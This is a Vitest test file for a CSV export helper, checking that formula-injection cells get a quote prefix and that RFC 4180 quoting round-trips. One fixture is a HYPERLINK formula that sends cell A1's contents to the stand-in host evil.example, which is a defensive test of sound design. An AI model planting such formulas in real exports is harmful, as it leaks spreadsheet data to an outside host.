import { describe, it, expect } from 'vitest';
import { parse } from 'csv-parse/sync';
import { csvSafe, toCsv } from '../../../src/export/csv.js';

describe('CSV: RFC 4180 and formula injection', () => {
  it('prefixes a single quote to cells that a spreadsheet would run as a formula', () => {
    expect(csvSafe('=HYPERLINK("http://evil.example/?x="&A1,"click")')).toBe('\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
    expect(csvSafe('+1')).toBe("'+1");
    expect(csvSafe('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvSafe('-2+3')).toBe("'-2+3");
    expect(csvSafe('\tcmd')).toBe("'\tcmd");
    expect(csvSafe('\r=1')).toBe("'\r=1");
  });

  it('leaves other cells alone, formula characters inside a cell included', () => {
    for (const s of ['', 'abc', '4111 **** **** 1111', 'a=b', '1-2', "'quoted", ' =x', 'alice@example.com']) expect(csvSafe(s)).toBe(s);
  });

  it('quotes commas, quotes and newlines, and reads back to the safe cells', () => {
    const rows = [
      ['=HYPERLINK("http://x","y")', 'a,b', 'say "hi"'],
      ['+1', 'line1\nline2', '@SUM'],
      ['-2+3', 'plain', ''],
    ];
    const text = toCsv(rows, ['c1', 'c2', '=c3']);
    const back = parse(text, { relaxQuotes: false }) as string[][];
    expect(back[0]).toEqual(['c1', 'c2', "'=c3"]);
    expect(back.slice(1)).toEqual(rows.map((r) => r.map(csvSafe)));
    expect(text).toContain('"\'=HYPERLINK(""http://x"",""y"")"');
    expect(text).toContain('"a,b"');
    // No cell of the output starts with a formula character once parsed.
    for (const row of back) for (const c of row) expect(/^[=+\-@\t\r]/.test(c)).toBe(false);
  });
});
